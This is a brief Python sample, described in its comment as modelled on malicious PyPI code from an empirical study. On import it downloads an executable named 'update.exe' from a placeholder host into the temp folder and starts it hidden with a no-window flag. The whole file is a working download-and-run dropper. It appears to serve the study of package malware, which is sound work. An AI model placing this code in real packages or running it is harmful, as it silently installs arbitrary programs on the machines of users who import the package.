# Sample modelled on the command execution that "An Empirical Study of Malicious Code in PyPI
# Ecosystem" (arXiv 2309.11021) finds in most samples, here of a downloaded executable: it is
# fetched at import time and started.
import os
import subprocess
import tempfile
from urllib.request import urlretrieve

target = os.path.join(tempfile.gettempdir(), "update.exe")
urlretrieve("https://cdn.example/files/update.exe", target)
subprocess.Popen([target], creationflags=0x08000000)
